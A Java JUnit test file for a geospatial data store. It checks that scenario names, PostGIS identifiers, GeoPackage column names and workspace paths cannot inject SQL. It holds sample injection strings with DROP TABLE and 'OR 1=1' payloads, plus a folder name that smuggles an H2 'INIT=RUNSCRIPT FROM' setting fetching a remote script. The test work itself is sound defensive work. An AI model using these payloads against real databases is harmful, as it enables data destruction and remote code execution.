package org.lifecircle.store;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.nio.file.Files;
import java.nio.file.Path;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.lifecircle.io.InputException;
import org.lifecircle.scenario.Scenario;
import org.lifecircle.store.exchange.GeoPackageExport;
import org.lifecircle.store.exchange.GeoPackageImport;
import org.lifecircle.store.layer.Feature;
import org.lifecircle.store.layer.Layer;
import org.lifecircle.store.layer.LayerKind;
import org.lifecircle.store.postgis.PostgisLayerSource;
import org.lifecircle.store.scenario.ScenarioRecord;
import org.locationtech.jts.geom.Coordinate;
import org.locationtech.jts.geom.GeometryFactory;

/**
 * FEATURE UNDER TEST: user text never becomes SQL. Values go through parameters (an injection
 * string is stored and read back verbatim, the tables survive); identifiers are validated before
 * any SQL is built (PostGIS table and column names); names the GeoPackage library would put into
 * SQL unescaped lose their quotes; a workspace folder cannot smuggle H2 URL settings.
 */
class InjectionTest {

    static final String INJECTION = "x'); DROP TABLE scenario; --\" OR \"1\"=\"1";

    @TempDir
    Path dir;

    @Test
    void scenarioAndProjectNamesAreValuesNotSql() {
        try (Workspace ws = Workspace.open(null, dir.resolve("ws"))) {
            long project = ws.projects().findOrCreate(INJECTION, INJECTION).id();
            ScenarioRecord created = ws.scenarios().create(project, INJECTION, Scenario.of("baseline"));
            ScenarioRecord other = ws.scenarios().create(project, "plain", Scenario.of("baseline"));
            assertEquals(INJECTION, ws.scenarios().get(created.id()).name());
            assertEquals(INJECTION, ws.projects().get(project).name());
            assertEquals(INJECTION, ws.projects().get(project).definition());
            assertEquals(List.of("plain", INJECTION), ws.scenarios().list(project).stream().map(ScenarioRecord::name).sorted().toList());
            assertTrue(ws.scenarios().find(project, INJECTION).isPresent());
            assertFalse(ws.scenarios().find(project, "' OR '1'='1").isPresent(), "a quote in a value matches nothing");
            assertEquals("plain", ws.scenarios().get(other.id()).name());
        }
    }

    @Test
    void postgisTableAndColumnNamesAreRefusedBeforeAnySql() {
        String[][] bad = {
            {"poi; DROP TABLE x", "geom", "gid"},
            {"poi", "geom\"); DROP TABLE x; --", "gid"},
            {"poi", "geom", "gid OR 1=1"},
            {"a.b.c", "geom", "gid"},
            {"public.\"poi\"", "geom", "gid"},
            {"poi", "", "gid"},
        };
        for (String[] b : bad) {
            InputException e = assertThrows(InputException.class,
                    () -> PostgisLayerSource.of("facilities", b[0], b[1], b[2], List.of(), null), String.join(",", b));
            assertEquals("facilities", e.source());
        }
        assertThrows(InputException.class, () -> PostgisLayerSource.of("facilities", "poi", "geom", "gid",
                List.of("name; DELETE FROM poi"), null));
        PostgisLayerSource ok = PostgisLayerSource.of("facilities", "规划.poi_养老", "geom", "gid", List.of("名称"), "point");
        assertEquals("\"规划\".\"poi_养老\"", ok.schema().quoted() + "." + ok.table().quoted());
    }

    @Test
    void geoPackageColumnsFromAttributeNamesCannotEndTheirQuotes() throws Exception {
        String evil = "name\" TEXT); DROP TABLE gpkg_contents; --";
        Map<String, Object> p = new LinkedHashMap<>();
        p.put(evil, "站点");
        Feature f = new Feature(1, "a", new GeometryFactory().createPoint(new Coordinate(114.05, 22.54)), p);
        Path file = dir.resolve("evil.gpkg");
        GeoPackageExport.write(file, List.of(Layer.of("sites", LayerKind.OTHER, "test", "EPSG:4326", List.of(f))), 4326);

        assertEquals(List.of("sites"), GeoPackageImport.tables(file), "gpkg_contents survived");
        Layer back = GeoPackageImport.read(file, "sites", LayerKind.OTHER);
        assertEquals(1, back.size());
        Map<String, Object> props = back.features().get(0).properties();
        assertEquals("站点", props.get("name_ TEXT); DROP TABLE gpkg_contents; --"), props.toString());
    }

    @Test
    void workspaceFolderCannotCarryH2Settings() throws Exception {
        Path folder = dir.resolve("ws;INIT=RUNSCRIPT FROM 'http://example.invalid/x.sql'");
        InputException e = assertThrows(InputException.class, () -> StoreLocation.parse(null, folder));
        assertEquals("--workspace", e.source());
        assertFalse(Files.exists(folder));
    }
}
